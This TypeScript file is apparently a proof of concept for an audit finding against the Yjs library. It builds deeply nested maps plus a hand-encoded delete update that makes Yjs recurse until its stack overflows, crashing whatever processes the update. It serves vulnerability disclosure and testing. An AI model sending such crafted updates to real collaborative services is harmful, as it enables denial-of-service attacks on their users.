/** Finding F1: what makes Yjs call itself until there is no stack left. */
import * as Y from 'yjs';

/** So many maps in each other, and the deletion of the outermost: Yjs calls itself for each. */
export function abyss(levels: number): { readonly maps: Uint8Array; readonly end: Uint8Array } {
	const doc = new Y.Doc();
	doc.transact(() => {
		let map = doc.getMap<unknown>('abyss');
		for (let level = 0; level < levels; level++) {
			const inner = new Y.Map<unknown>();
			map.set('in', inner);
			map = inner;
		}
	});
	const maps = Y.encodeStateAsUpdate(doc);
	const root = doc.getMap('abyss')._map.get('in');
	const [client, clock] = [doc.clientID, root?.id.clock ?? 0];
	const end: number[] = [0, 1];
	for (let left = client; ; left = Math.floor(left / 128)) {
		end.push(left > 127 ? 128 | (left % 128) : left);
		if (left <= 127) break;
	}
	end.push(1, clock, 1);
	return { maps, end: new Uint8Array(end) };
}
